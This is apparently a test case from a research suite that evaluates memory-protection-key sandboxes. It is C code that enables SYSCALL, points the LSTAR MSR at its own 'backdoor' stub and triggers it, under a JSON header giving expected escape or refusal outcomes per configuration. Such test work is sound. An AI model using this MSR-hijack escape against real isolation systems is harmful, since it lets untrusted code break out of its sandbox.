/*
{
  "title": "SYSCALL enabled, with a place of the extension's own in LSTAR, for whoever executes it later",
  "precondition": "CR4.PKE = 1",
  "reference": "Intel 64 and IA-32 Architectures Software Developer's Manual, volume 2B, SYSCALL; Voulimeneas et al., You Shall Not (by)Pass! Practical, Secure, and Fast PKU-based Sandboxing, EuroSys 2022",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I3"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"none": "escaped", "uio-mpk": "contained", "mpk-hardened": "refused", "pks-hardened": "refused", "mpk-bundled": "refused"}
}
*/
#include "attack.h"
#include "processor.h"

// Comes back as SYSCALL left it: RIP in RCX, RFLAGS in R11.
__asm__(
    ".text\n"
    "backdoor: pushq %r11\n"
    "  popfq\n"
    "  jmpq *%rcx\n");
extern const char backdoor[];

static void install(void) {
  write_msr(0xc0000080, read_msr(0xc0000080) | 1);
  write_msr(0xc0000081, 8ull << 32);
  write_msr(0xc0000082, (uint64_t)backdoor);
  __asm__ volatile("syscall" : : : "rcx", "r11", "memory");
}

int main(void) {
  BYPASS_OF_KEYS(install());
  GOAL_COUNT();
  return 0;
}
